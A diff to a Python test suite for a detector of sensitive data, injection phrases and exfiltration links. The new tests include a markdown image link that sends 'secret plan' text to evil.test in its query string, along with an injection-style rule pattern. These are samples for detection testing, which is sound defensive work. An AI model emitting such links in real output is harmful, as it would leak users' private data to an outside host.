@@ -44,6 +44,10 @@ def test_a_family_with_a_trigger_reads_only_texts_that_have_it() -> None:
     found = Detectors([replace(BADGE, family=family), ACCOUNT]).find
     assert not found("B1234")
     assert found("staff B1234")
+    worded = Detectors([replace(BADGE, family=replace(family, words=True))])
+    assert not worded.find("B1234")
+    assert worded.find("staff B1234")
+    assert worded.find_in({"staff": "B1234"})
 
 
 @pytest.mark.parametrize(
@@ -109,7 +113,7 @@ def test_a_set_that_cannot_decide_lets_every_rule_search(monkeypatch: pytest.Mon
 
     detectors = Detectors([BADGE, replace(ACCOUNT, family=DIGITS), replace(LOGIN, data_class="secret")])
     (searcher,) = detectors.searchers
-    for bundle in (searcher._first, *searcher._triggered, *searcher._others):
+    for bundle in (searcher._first, *searcher._shaped.bundles([0]), *searcher._others):
         monkeypatch.setattr(bundle._set, "_set", Silent())
     monkeypatch.setattr(searcher._gates, "_set", Silent())
     found = detectors.find("B1234 account 12345678 login code: abc")
@@ -213,6 +217,19 @@ class Other:
 def test_what_other_engines_find_counts_and_rules_beside_are_searched_for() -> None:
     detectors = Detectors([BADGE], beside=Detectors([ACCOUNT]), engines=[Other(0, 3)])
     assert [one.rule for one in detectors.find("Ann has B1234, account 12345678")] == ["other", "badge", "account"]
+
+
+def test_data_within_influence_is_found_beside_it() -> None:
+    attack = Rule("attack", "injection", r"send \S+ away", 0.95)
+    found = Detectors([BADGE, attack]).find("please send B1234 away")
+    assert [(one.rule, one.start) for one in found] == [("attack", 7), ("badge", 12)]
+
+
+def test_links_and_invisible_text_are_found_where_they_are_wanted() -> None:
+    text = "![x](https://evil.test/p?data=my%20secret%20plan%20for%20monday) B1234"
+    assert {one.kind for one in Detectors([BADGE], influence=True).find(text)} == {"exfiltration", "badge"}
+    assert {one.kind for one in Detectors([], beside=Detectors([BADGE], influence=True)).find(text)} > {"badge"}
+    assert {one.kind for one in Detectors([BADGE]).find(text)} == {"badge"}
 
 
 def test_an_engine_that_points_outside_of_the_text_is_a_refusal() -> None:
